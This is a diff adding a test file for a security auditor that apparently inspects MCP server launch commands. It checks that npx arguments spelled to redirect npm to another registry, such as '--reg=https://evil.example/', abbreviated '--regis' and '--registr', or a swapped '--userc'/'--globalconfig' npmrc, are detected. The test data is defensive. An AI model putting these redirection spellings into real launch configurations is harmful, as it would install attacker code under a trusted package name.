@@ -1,0 +1,50 @@
+/**
+ * Hostile world: an MCP launch that points its runner at another registry in a spelling the
+ * runner reads but nerq did not. npm reads its command line with nopt: `--reg` is its shorthand
+ * for `--registry`, and any unambiguous abbreviation of a long option is that option
+ * (`--regis=…`, `--userc=…`); `--globalconfig` names an npmrc that may set the registry as well.
+ * A launch spelled so installs the attacker's package under a trusted name; nerq must report
+ * it as code fetched from there (docs/security.md, "Dependencies no registry vouches for"), not
+ * evaluate the public package of that name and pass it. The same reading serves MCP Registry
+ * entries' runtime arguments (registryRedirect).
+ */
+import { describe, expect, it } from 'vitest';
+import { mapLaunch } from '../../src/audit/mcp/launch.js';
+import { registryRedirect } from '../../src/ecosystems/registry-redirect.js';
+import { noteCases } from './support/metrics.js';
+
+const PUBLIC = ['https://registry.example/', 'https://pypi.example'];
+const NPM_PACKAGE = '@modelcontextprotocol/server-filesystem';
+
+/** [label, npx arguments, where the package then comes from]. */
+const NPM_SPELLINGS: [string, string[], string][] = [
+  ['--reg=URL (npm shorthand)', ['--reg=https://evil.example/', '-y', NPM_PACKAGE], 'https://evil.example/'],
+  ['--reg URL (npm shorthand, value apart)', ['--reg', 'https://evil.example/', '-y', NPM_PACKAGE], 'https://evil.example/'],
+  ['-reg=URL (one dash)', ['-reg=https://evil.example/', '-y', NPM_PACKAGE], 'https://evil.example/'],
+  ['--regis=URL (abbreviated)', ['-y', '--regis=https://evil.example/', NPM_PACKAGE], 'https://evil.example/'],
+  ['--registr URL (abbreviated, value apart)', ['-y', '--registr', 'https://evil.example/', NPM_PACKAGE], 'https://evil.example/'],
+  ['--userc=FILE (abbreviated userconfig)', ['--userc=./evil.npmrc', '-y', NPM_PACKAGE], './evil.npmrc'],
+  ['--globalconfig=FILE', ['--globalconfig=./evil.npmrc', '-y', NPM_PACKAGE], './evil.npmrc'],
+  ['--globalc FILE (abbreviated)', ['--globalc', './evil.npmrc', '-y', NPM_PACKAGE], './evil.npmrc'],
+];
+
+describe('hostile: a launch that names another registry in a spelling its runner reads', () => {
+  it.for(NPM_SPELLINGS)('npx %s: fetched from there, with the package named', ([, args, source], { task }) => {
+    noteCases(task);
+    const launch = mapLaunch({ command: 'npx', args });
+    expect(launch.kind).toBe('fetched');
+    if (launch.kind !== 'fetched') return;
+    expect(launch.code).toEqual([expect.objectContaining({ ecosystem: 'npm', name: NPM_PACKAGE, source })]);
+  });
+
+  it.for(NPM_SPELLINGS)('an MCP Registry entry whose runtime arguments hold %s is redirected', ([, args, source]) => {
+    expect(registryRedirect('npm', args, [], PUBLIC)?.source).toBe(source);
+  });
+
+  it('words npm reads as other settings are not redirections', () => {
+    for (const word of ['--re=https://evil.example/', '--regular=x', '--user=x', '--global', '--registryx=x', '--r']) {
+      expect(registryRedirect('npm', [word, 'pkg'], [], PUBLIC), word).toBeNull();
+    }
+    expect(registryRedirect('npm', ['--reg=https://registry.example', 'pkg'], [], PUBLIC)).toBeNull();
+  });
+});
